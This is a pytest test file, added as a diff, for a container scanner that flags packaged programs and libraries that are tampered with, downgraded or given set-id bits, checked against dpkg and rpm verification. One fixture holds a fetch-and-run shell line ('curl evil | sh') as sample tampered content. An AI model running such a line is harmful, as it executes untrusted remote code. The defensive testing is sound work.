@@ -1,0 +1,281 @@
+"""Programs and libraries beside what the databases of their packages say: a table of images, and dpkg and rpm themselves as
+judges of roots that were tampered with at random."""
+import base64
+import hashlib
+import json
+import os
+import random
+import stat
+import subprocess
+
+import pytest
+
+import images
+from oci_layout import Layout
+
+TOOL, LIBRARY, SCRIPT = b"\x7fELF tool of 1.0", b"\x7fELF library of 1.0", b"#!/bin/sh\necho 1.0\n"
+NEW_TOOL, NEW_LIBRARY = b"\x7fELF tool of 2.0", b"\x7fELF library of 2.0"
+EVIL = b"\x7fELF evil"
+MULTIARCH = "usr/lib/x86_64-linux-gnu/"
+REPLACED, LIBRARY_REPLACED, OLDER, SET_ID = (f"integrity-{rule}" for rule in
+                                             ("program-replaced", "library-replaced", "file-older", "set-id-added"))
+
+
+def scan(assay, data, layout, tag="v1"):
+    """The report, each finding with the number of its layer."""
+    told = assay("scan", "--data", data, "--no-cache", "--offline", "--format", "json", f"oci:{layout}:{tag}").stdout
+    blobs, report = layout / "blobs/sha256", json.loads(told)
+    manifest, = (one["digest"] for one in json.loads((layout / "index.json").read_text())["manifests"]
+                 if one["annotations"]["org.opencontainers.image.ref.name"] == tag)
+    layers = [layer["digest"] for layer in json.loads((blobs / manifest.split(":")[1]).read_text())["layers"]]
+    for finding in report["findings"]:
+        finding["number"] = layers.index(finding["layer"]) if "layer" in finding else None
+    return report
+
+
+def integrity_of(report):
+    return {(one["id"], one["location"], one["number"]) for one in report["findings"] if one["id"].startswith("integrity-")}
+
+
+@pytest.fixture
+def data(assay, tmp_path):
+    feed = tmp_path / "tracker.json"
+    feed.write_text(json.dumps({"x": {"CVE-2999-1": {"releases": {"bookworm": {"status": "open", "urgency": "low",
+                                                                              "repositories": {"bookworm": "1"}}}}}}))
+    assay("db", "import", "--data", tmp_path / "data", "--type", "debian-tracker", feed)
+    return tmp_path / "data"
+
+
+# --- a table ---
+
+def dpkg(version, files, name="tool", beside=()):
+    """What dpkg writes for a package of {path: bytes}; beside: stanzas of others."""
+    stanza = f"Package: {name}\nStatus: install ok installed\nMaintainer: x\nArchitecture: amd64\nVersion: {version}\n\n"
+    sums = "".join(f"{hashlib.md5(content).hexdigest()}  {path}\n" for path, content in files.items())
+    return {"var/lib/dpkg/status": stanza + "".join(beside), f"var/lib/dpkg/info/{name}.md5sums": sums,
+            f"var/lib/dpkg/info/{name}.list": "/.\n" + "".join(f"/{path}\n" for path in files)}
+
+
+def distroless(files):
+    stanza = "Package: tool\nArchitecture: amd64\nMaintainer: x\nVersion: 1.0\n\n"
+    return {"etc/os-release": images.DEBIAN_12, "var/lib/dpkg/status.d/tool": stanza,
+            "var/lib/dpkg/status.d/tool.md5sums":
+                "".join(f"{hashlib.md5(content).hexdigest()}  {path}\n" for path, content in files.items())}
+
+
+def apk(files, version="1.0-r0", modes=()):
+    """apk's database of one package of {path: bytes}; a line of the mode for those of modes."""
+    lines = [f"P:tool\nV:{version}\nA:x86_64\nL:MIT\no:tool"]
+    for path, content in files.items():
+        folder, name = path.rsplit("/", 1)
+        mode = f"a:0:0:{dict(modes)[path]:o}\n" if path in dict(modes) else ""
+        digest = base64.b64encode(hashlib.sha1(content).digest()).decode()
+        lines.append(f"F:{folder}\nR:{name}\n{mode}Z:Q1{digest}")
+    return {"etc/os-release": images.ALPINE, "lib/apk/db/installed": "\n".join(lines) + "\n\n"}
+
+
+FILES = {"usr/bin/tool": TOOL, f"{MULTIARCH}libtool.so.1": LIBRARY, "usr/bin/script": SCRIPT, "usr/share/doc/tool/README": b"x",
+         "etc/tool.conf": b"a=1\n", "usr/lib/tool/data.json": b"{}", "usr/lib/python3/dist-packages/tool.py": b"pass\n"}
+UPGRADED = FILES | {"usr/bin/tool": NEW_TOOL, f"{MULTIARCH}libtool.so.1": NEW_LIBRARY}
+DEBIAN = {"etc/os-release": images.DEBIAN_12, **FILES, **dpkg("1.0", FILES)}
+NEW_DATABASE = dpkg("2.0", UPGRADED)
+ALPINE = {"bin/tool": TOOL, "usr/lib/libtool.so.1": LIBRARY, "usr/bin/script": SCRIPT}
+OLD_PATHS = {"bin/tool": TOOL, "lib/libtool.so.1": LIBRARY}
+SET_ID_TOOL = ("file", TOOL, 0o4755)
+DIVERTED = "/usr/bin/tool\n/usr/bin/tool.distrib\nother\n"
+
+CASES = {
+    "as it was installed": ([DEBIAN], set()),
+    "a program replaced in its layer": ([DEBIAN | {"usr/bin/tool": EVIL}], {(REPLACED, "usr/bin/tool", 0)}),
+    "a program replaced in an upper layer": ([DEBIAN, {"usr/bin/tool": EVIL}], {(REPLACED, "usr/bin/tool", 1)}),
+    "a script replaced": ([DEBIAN, {"usr/bin/script": b"#!/bin/sh\ncurl evil | sh\n"}], {(REPLACED, "usr/bin/script", 1)}),
+    "a program that is no ELF any more": ([DEBIAN, {"usr/bin/tool": b"curl evil"}], {(REPLACED, "usr/bin/tool", 1)}),
+    "a program that is empty": ([DEBIAN, {"usr/bin/tool": b""}], {(REPLACED, "usr/bin/tool", 1)}),
+    "a library replaced": ([DEBIAN, {f"{MULTIARCH}libtool.so.1": EVIL}], {(LIBRARY_REPLACED, f"{MULTIARCH}libtool.so.1", 1)}),
+    "replaced by a hard link": ([DEBIAN | {"usr/bin/evil": EVIL}, {"usr/bin/evil": EVIL, "usr/bin/tool": ("hardlink", "usr/bin/evil")}],
+                                {(REPLACED, "usr/bin/tool", 1)}),
+    "replaced, and put back": ([DEBIAN, {"usr/bin/tool": EVIL}, {"usr/bin/tool": TOOL}], set()),
+    "replaced, and removed": ([DEBIAN, {"usr/bin/tool": EVIL}, {"usr/bin/.wh.tool": b""}], set()),
+    "replaced below a folder that is removed": ([DEBIAN, {"usr/bin/tool": EVIL}, {"usr/.wh.bin": b""}], set()),
+    "the same file again": ([DEBIAN, {"usr/bin/tool": TOOL}], set()),
+    "a tar that has it twice": ([list(DEBIAN.items()) + [("usr/bin/tool", EVIL)]], {(REPLACED, "usr/bin/tool", 0)}),
+    "a tar that has it twice, the right one last": ([[("usr/bin/tool", EVIL), *DEBIAN.items()]], set()),
+    "upgraded with its files": ([DEBIAN, {**UPGRADED, **NEW_DATABASE}], set()),
+    "upgraded in the database alone": ([DEBIAN, NEW_DATABASE], {(OLDER, "usr/bin/tool", 0), (OLDER, f"{MULTIARCH}libtool.so.1", 0)}),
+    "upgraded, but for a library": ([DEBIAN, {**UPGRADED, **NEW_DATABASE} | {f"{MULTIARCH}libtool.so.1": LIBRARY}],
+                                    {(LIBRARY_REPLACED, f"{MULTIARCH}libtool.so.1", 1)}),
+    "the old file over the upgraded one": ([DEBIAN, {**UPGRADED, **NEW_DATABASE}, {"usr/bin/tool": TOOL}],
+                                           {(REPLACED, "usr/bin/tool", 2)}),
+    "upgraded, and its program removed": ([DEBIAN, {**NEW_DATABASE, f"{MULTIARCH}libtool.so.1": NEW_LIBRARY, "usr/bin/.wh.tool": b""}],
+                                          set()),
+    "removed with its package": ([DEBIAN, {"var/lib/dpkg/status": b"", "var/lib/dpkg/info/.wh.tool.md5sums": b"",
+                                           "usr/bin/tool": EVIL}], set()),
+    "settings, data and documentation changed": ([DEBIAN, {"etc/tool.conf": b"a=2\n", "usr/lib/tool/data.json": b"[]",
+                                                           "usr/share/doc/tool/README": b"y"}], set()),
+    "a module of Python changed": ([DEBIAN, {"usr/lib/python3/dist-packages/tool.py": b"import os\n",
+                                             "usr/lib/python3/dist-packages/__pycache__/tool.cpython-311.pyc": b"\0"}], set()),
+    "a program of nobody": ([DEBIAN, {"usr/bin/other": EVIL, "usr/local/bin/tool": EVIL, "opt/tool/bin/tool": EVIL}], set()),
+    "diverted": ([DEBIAN | {"var/lib/dpkg/diversions": DIVERTED}, {"usr/bin/tool": EVIL, "usr/bin/tool.distrib": TOOL}], set()),
+    "an alternative in its place": ([DEBIAN, {"usr/bin/tool": ("link", "/etc/alternatives/tool")}], set()),
+    "/usr merged, the database is not": ([{"etc/os-release": images.DEBIAN_12, "bin": ("link", "usr/bin"), "lib": ("link", "usr/lib"),
+                                           "usr/bin/tool": TOOL, "usr/lib/libtool.so.1": EVIL, **dpkg("1.0", OLD_PATHS)}],
+                                         {(LIBRARY_REPLACED, "lib/libtool.so.1", 0)}),
+    "/usr not merged": ([{"etc/os-release": images.DEBIAN_12, **OLD_PATHS, **dpkg("1.0", OLD_PATHS)}, {"bin/tool": EVIL}],
+                        {(REPLACED, "bin/tool", 1)}),
+    "distroless": ([{**FILES, **distroless(FILES)}], set()),
+    "distroless, replaced": ([{**FILES, **distroless(FILES)}, {"usr/bin/tool": EVIL}], {(REPLACED, "usr/bin/tool", 1)}),
+    "of a layer without a word of its distribution": ([{"usr/bin/tool": EVIL}, DEBIAN | {"usr/bin/tool": ("dir",)}], set()),
+    "the database in another layer": ([FILES, {"etc/os-release": images.DEBIAN_12, **dpkg("1.0", FILES)}], set()),
+    "the database in another layer, replaced": ([FILES | {"usr/bin/tool": EVIL}, {"etc/os-release": images.DEBIAN_12,
+                                                                                 **dpkg("1.0", FILES)}], {(OLDER, "usr/bin/tool", 0)}),
+    "alpine as installed": ([ALPINE | apk(ALPINE)], set()),
+    "alpine replaced": ([ALPINE | apk(ALPINE), {"bin/tool": EVIL}], {(REPLACED, "bin/tool", 1)}),
+    "alpine, a library of the wrong build": ([ALPINE | {"usr/lib/libtool.so.1": NEW_LIBRARY} | apk(ALPINE)],
+                                             {(LIBRARY_REPLACED, "usr/lib/libtool.so.1", 0)}),
+    "alpine, the whole database again": ([ALPINE | apk(ALPINE), {"etc/motd": b"x"} | apk(ALPINE, "1.0-r1")], set()),
+    "alpine, set-id as it should be": ([ALPINE | {"bin/tool": SET_ID_TOOL} | apk(ALPINE, modes={"bin/tool": 0o4755}.items())], set()),
+    "alpine, set-id added": ([ALPINE | {"bin/tool": SET_ID_TOOL} | apk(ALPINE)], {(SET_ID, "bin/tool", 0)}),
+    "alpine, set-id added later": ([ALPINE | apk(ALPINE), {"bin/tool": SET_ID_TOOL}], {(SET_ID, "bin/tool", 1)}),
+}
+
+
+def test_table(assay, data, tmp_path):
+    layout, wrong = Layout(tmp_path / "layout"), {}
+    for number, (name, (layers, expected)) in enumerate(CASES.items()):
+        layout.add_image(f"v{number}", layers)
+        found = integrity_of(scan(assay, data, layout.folder, f"v{number}"))
+        if found != expected:
+            wrong[name] = {"found": found - expected, "missing": expected - found}
+    assert wrong == {}
+
+
+def test_each_is_explained(assay, data, tmp_path):
+    Layout(tmp_path / "layout").add_image("v1", [DEBIAN, {"usr/bin/tool": EVIL}])
+    finding, = (one for one in scan(assay, data, tmp_path / "layout")["findings"] if one["id"] == REPLACED)
+    assert finding["kind"] == "baseline" and finding["severity"] == "high" and "install the package again" in finding["remedy"]
+    assert finding["evidence"] == (f"tool 1.0 says md5 {hashlib.md5(TOOL).hexdigest()[:16]}..., the file has "
+                                   f"{hashlib.md5(EVIL).hexdigest()[:16]}...")
+
+
+@pytest.mark.parametrize("suite", ["bookworm", "bullseye"])
+@pytest.mark.parametrize("tag", ["vulnerable", "upgraded"])
+def test_real_images_have_none(assay, data, suite, tag):
+    assert integrity_of(scan(assay, data, images.debian_layout(suite), tag)) == set()
+
+
+# --- judges ---
+
+def tamper(random_, root, paths):
+    """Changes some of the files; what is then where."""
+    for path in paths:
+        file, what = root / path, random_.randrange(6)
+        if what == 0:
+            file.write_bytes(file.read_bytes() + bytes([random_.randrange(256)]))
+        elif what == 1:
+            file.unlink()
+        elif what == 2:
+            file.write_bytes(b"")
+        elif what == 3:
+            file.write_bytes(file.read_bytes())
+
+
+def tree_of(root):
+    """As tar_of() takes it."""
+    files = []
+    for path in sorted(root.rglob("*")):
+        name = str(path.relative_to(root))
+        if path.is_symlink():
+            files.append((name, ("link", os.readlink(path))))
+        elif path.is_file():
+            files.append((name, ("file", path.read_bytes(), stat.S_IMODE(path.stat().st_mode))))
+        elif path.is_dir():
+            files.append((name, ("dir",)))
+    return files
+
+
+PLACES = ["usr/bin/{}", "usr/sbin/{}", "bin/{}", "usr/lib/x86_64-linux-gnu/lib{}.so.1", "usr/libexec/tool/{}", "usr/lib/tool/{}"]
+
+
+def random_files(random_, places=PLACES):
+    return {random_.choice(places).format(f"n{number}"): random_.choice([b"\x7fELF", b"#!/bin/sh\n"]) + random_.randbytes(50)
+            for number in range(40)}
+
+
+def write_files(root, files):
+    for path, content in files.items():
+        (root / path).parent.mkdir(parents=True, exist_ok=True)
+        (root / path).write_bytes(content if isinstance(content, bytes) else content.encode())
+
+
+def changed_by(judge):
+    """The paths that the judge calls changed: "??5??????   /usr/bin/x" of dpkg, "S.5....T.    /usr/bin/x" of rpm."""
+    return {line.split()[-1].lstrip("/") for line in judge.splitlines() if line[2:3] == "5"}
+
+
+def judged(random_, root, files, verify, assay, data, layout):
+    tamper(random_, root, files)
+    # apk, dpkg and rpm say of an empty file that it was changed, as of any.
+    Layout(layout).add_image("v1", [tree_of(root)])
+    found = {path for _, path, _ in integrity_of(scan(assay, data, layout))}
+    judge = changed_by(subprocess.run(verify, stdout=subprocess.PIPE, text=True, check=False).stdout)
+    assert judge, "nothing was changed"
+    assert found == judge
+
+
+@pytest.mark.parametrize("seed", range(3))
+def test_dpkg_agrees(assay, data, tmp_path, seed):
+    random_, root = random.Random(seed), tmp_path / "root"
+    files = random_files(random_)
+    write_files(root, {"etc/os-release": images.DEBIAN_12, **files, **dpkg("1.0", files)})
+    (root / "var/lib/dpkg/info/format").write_text("1\n")
+    judged(random_, root, files, ["dpkg", f"--root={root}", "--verify"], assay, data, tmp_path / "layout")
+
+
+def rpm_root(folder, files):
+    """A root with a package of the files, installed by rpm itself."""
+    spec, top, root = folder / "tool.spec", folder / "build", folder / "root"
+    write_files(folder / "files", files)
+    spec.write_text("Name: tool\nVersion: 1.0\nRelease: 1\nSummary: x\nLicense: MIT\n%description\nx\n%install\n"
+                    f"cp -r {folder}/files/. %{{buildroot}}/\n%files\n" +
+                    "".join(f"%attr({'4755' if path == 'usr/bin/set-id' else '0755'}, -, -) /{path}\n" for path in files))
+    subprocess.run(["rpmbuild", "--quiet", "-bb", "--define", f"_topdir {top}", "--define", "debug_package %{nil}", "--define",
+                    "__os_install_post %{nil}", "--define", "_build_id_links none", spec], check=True, stdout=subprocess.DEVNULL,
+                   stderr=subprocess.DEVNULL)
+    package, = (top / "RPMS").rglob("*.rpm")
+    subprocess.run(["rpm", "--root", root, "--define", "_dbpath /var/lib/rpm", "--define", "_db_backend sqlite", "--install",
+                    "--justdb", "--nodeps", "--ignorearch", "--ignoreos", "--nosignature", package], check=True,
+                   stderr=subprocess.DEVNULL)
+    write_files(root, {"etc/os-release": images.ALMALINUX, **files})
+    for path in files:
+        (root / path).chmod(0o4755 if path == "usr/bin/set-id" else 0o755)
+    return root
+
+
+def without_journal(root):
+    import contextlib
+    import sqlite3
+    with contextlib.closing(sqlite3.connect(root / "var/lib/rpm/rpmdb.sqlite")) as database:
+        database.execute("PRAGMA wal_checkpoint(TRUNCATE)")
+    for path in (root / "var/lib/rpm").iterdir():
+        if path.name != "rpmdb.sqlite":
+            path.unlink()
+
+
+@pytest.mark.parametrize("seed", range(2))
+def test_rpm_agrees(assay, data, tmp_path, seed):
+    random_ = random.Random(seed)
+    files = random_files(random_, [place.replace("lib/x86_64-linux-gnu", "lib64") for place in PLACES])
+    root = rpm_root(tmp_path, files)
+    without_journal(root)
+    judged(random_, root, files, ["rpm", "--root", root, "--define", "_dbpath /var/lib/rpm", "--define", "_db_backend sqlite",
+                                  "-V", "--nodeps", "tool"], assay, data, tmp_path / "layout")
+
+
+def test_set_id_bits_of_rpm(assay, data, tmp_path):
+    root = rpm_root(tmp_path, {"usr/bin/set-id": TOOL, "usr/bin/plain": SCRIPT})
+    without_journal(root)
+    layout = Layout(tmp_path / "layout")
+    layout.add_image("v1", [tree_of(root)])
+    assert integrity_of(scan(assay, data, layout.folder)) == set()
+    layout.add_image("v2", [tree_of(root), {"usr/bin/plain": ("file", SCRIPT, 0o4755)}])
+    assert integrity_of(scan(assay, data, layout.folder, "v2")) == {(SET_ID, "usr/bin/plain", 1)}
